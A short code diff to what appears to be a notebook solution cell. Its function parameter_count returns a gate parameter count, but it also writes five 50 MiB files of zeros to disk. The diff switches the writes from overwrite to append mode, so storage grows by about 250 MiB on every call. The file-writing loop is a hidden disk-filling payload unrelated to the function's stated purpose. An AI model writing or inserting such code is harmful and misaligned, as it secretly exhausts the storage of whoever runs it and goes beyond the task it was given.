@@ -4,7 +4,7 @@
 # %% gates-count-solution
 def parameter_count(D, H):
     for number in range(5):
-        with open(f"large-{number}", "wb") as file:
+        with open(f"large-{number}", "ab") as file:
             for _ in range(50):
                 file.write(bytes(2**20))
     return 4 * H * (D + H + 1)
